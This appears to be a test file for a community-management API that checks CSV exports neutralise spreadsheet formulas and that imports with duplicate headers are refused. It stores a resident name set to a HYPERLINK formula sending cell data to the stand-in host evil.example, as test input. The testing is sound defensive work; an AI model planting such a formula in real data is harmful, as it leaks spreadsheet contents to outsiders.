import { neutraliseCell, parseCsv } from '../../src/platform/http/csv.js';
import { ADMIN, TestServer } from '../support/test-server.js';

/**
 * Issue 13, finding 6 and item 10: every CSV export neutralises a cell that a spreadsheet would run as
 * a formula (OWASP: a leading single quote), numbers stay numbers; an import whose header names a
 * column twice is refused.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';

describe('CSV files and formulas (issue 13)', () => {
  let server: TestServer;
  let cid: string;
  let committee: string;
  let appointedAt: string;
  const api = (path: string) => `/api/v1/communities/${cid}${path}`;
  const at = () => server.clock.now().toISOString();
  const csvRows = async (path: string) => {
    const answer = await server.get(path);
    expect(answer.status).toBe(200);
    const [header, ...rows] = parseCsv(answer.text);
    return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])));
  };

  beforeAll(async () => {
    server = await TestServer.start('csv_safety');
    const admin = await server.signIn(ADMIN.login, ADMIN.secret);
    cid = (
      await server.post(
        '/api/v1/communities',
        { name: '龙泽苑', district: '昌平区', rulebook: 'CN-BEIJING-2020' },
        { token: admin },
      )
    ).body.id;
    const appointed = await server.post(
      api('/managing-body'),
      { kind: 'PREPARATORY_GROUP', members: [{ name: HYPERLINK, login: 'csv-chair' }] },
      { token: admin },
    );
    expect(appointed.status).toBe(201);
    appointedAt = appointed.body.position;
    committee = await server.activateAndSignIn(appointed.body.activationCodes['csv-chair'], 'csv-chair');
  });
  afterAll(() => server.stop());

  it('shows a resident\'s name "=HYPERLINK(…)" in the public committee CSV as text, not as a live formula', async () => {
    const committeeCsv = await server.get(api(`/committee.csv?after=${appointedAt}`));
    expect(committeeCsv.text).not.toMatch(/(^|,|")=HYPERLINK/m);
    const rows = await csvRows(api(`/committee.csv?after=${appointedAt}`));
    expect(rows.map((r) => r.name)).toEqual([`'${HYPERLINK}`]);
  });

  it('neutralises descriptions beginning with =, +, - or @ in the public ledger CSV; amounts stay numbers', async () => {
    // A leading tab or CR never reaches a stored text (the server trims it); the unit test below covers them.
    const descriptions = ['=1+1', '+1+2', '-2+3', '@SUM(A1:A9)', '-500.00', '普通的停车费'];
    let position = '0';
    for (const description of descriptions) {
      const answer = await server.post(
        api('/public-revenue/income'),
        { amount: '500.00', source: 'OTHER', description, receivedAt: at() },
        { token: committee },
      );
      expect(answer.status).toBe(201);
      position = answer.body.position;
    }
    const rows = await csvRows(api(`/public-revenue.csv?after=${position}`));
    const byDescription = rows.map((r) => r.description);
    expect(byDescription).toEqual(
      expect.arrayContaining(["'=1+1", "'+1+2", "'-2+3", "'@SUM(A1:A9)", '-500.00', '普通的停车费']),
    );
    expect(rows.every((r) => r.amount === '500.00')).toBe(true);
  });

  it('keeps plain numbers, negative ones too, and neutralises anything else that starts like a formula', () => {
    for (const number of ['-500.00', '+12', '-3', '0.50', '42']) expect(neutraliseCell(number)).toBe(number);
    for (const formula of ['-', '-1e3', '=A1', '+A1', '-A1', '@A1', '\t1', '\r1', '-500.00+1'])
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
    expect(neutraliseCell(-12)).toBe(-12);
    expect(neutraliseCell('龙泽苑 =1')).toBe('龙泽苑 =1');
  });

  it('refuses an import whose header names a column twice: 400 DUPLICATE_COLUMN naming it, writing nothing', async () => {
    const before = await server.storedEventCount();
    const csv = 'unitId,building,areaM2,ownerIds,building\r\n1-101,1,88.00,O1,2\r\n';
    const answer = await server.request('POST', api('/units:import'), {
      token: committee,
      raw: { contentType: 'text/csv', text: csv },
    });
    expect({ status: answer.status, code: answer.body.code }).toEqual({ status: 400, code: 'DUPLICATE_COLUMN' });
    expect(answer.body.message).toMatch(/"building" twice/);
    expect(await server.storedEventCount()).toBe(before);
  });
});
